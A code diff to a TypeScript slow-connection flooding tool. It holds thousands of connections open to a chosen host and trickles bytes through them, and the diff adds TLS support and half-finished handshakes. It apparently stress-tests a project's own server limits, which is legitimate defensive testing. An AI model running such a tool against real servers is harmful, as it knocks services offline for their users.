@@ -1,4 +1,5 @@
 import { connect } from "node:net";
+import { connect as connectTls } from "node:tls";
 import { parseArgs } from "node:util";
 
 // A hostile host as a program: keeps so many bad connections to the server open at once, and opens a new one for each that the
@@ -14,6 +15,8 @@ const { values } = parseArgs({
     /** Its addresses, used in turn. */
     from: { type: "string", multiple: true, default: [] },
     connections: { type: "string", default: "2000" },
+    /** The port speaks TLS. */
+    tls: { type: "boolean", default: false },
     /** A bearer token for the uploads and the large bodies, which an anonymous host could not begin. */
     token: { type: "string", default: "" },
   },
@@ -33,18 +36,35 @@ const KINDS = [
   `${head("/api/photoarticleinventory", 20 * 1024 * 1024, "multipart/form-data; boundary=b")}${PART}${"x".repeat(256 * 1024)}`,
 ];
 
+/** At a port of TLS also connections without a handshake, and with the begin of one (a ClientHello). */
+const BEFORE_TLS = ["", "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"];
+
+interface Kind {
+  readonly first: string;
+  readonly isTls: boolean;
+}
+
+const OF_PORT: readonly Kind[] = [
+  ...(values.tls ? BEFORE_TLS.map((first) => ({ first, isTls: false })) : []),
+  ...KINDS.map((first) => ({ first, isTls: values.tls })),
+];
+
 let opened = 0;
-function attack(kind: string, localAddress: string | undefined): void {
-  const socket = connect({
+function attack(kind: Kind | undefined, localAddress: string | undefined): void {
+  const { first = "", isTls = false } = kind ?? {};
+  const to = {
     host: values.host,
     port: Number(values.port),
     ...(localAddress !== undefined && { localAddress }),
-  });
+  };
+  const socket = isTls ? connectTls({ ...to, rejectUnauthorized: false }) : connect(to);
   let timer: NodeJS.Timeout | undefined;
   socket.once("connect", () => {
-    socket.write(kind);
-    if (kind !== "") timer = setInterval(() => socket.write("x"), SLOW_MS);
     if (++opened === count) process.stdout.write("attacking\n");
+  });
+  socket.once(isTls ? "secureConnect" : "connect", () => {
+    socket.write(first, "latin1");
+    if (first !== "") timer = setInterval(() => socket.write("x"), SLOW_MS);
   });
   socket.resume();
   // The server closes and resets connections above its limits.
@@ -55,4 +75,4 @@ function attack(kind: string, localAddress: string | undefined): void {
   });
 }
 for (let index = 0; index < count; index++)
-  attack(KINDS[index % KINDS.length] ?? "", values.from[index % values.from.length]);
+  attack(OF_PORT[index % OF_PORT.length], values.from[index % values.from.length]);
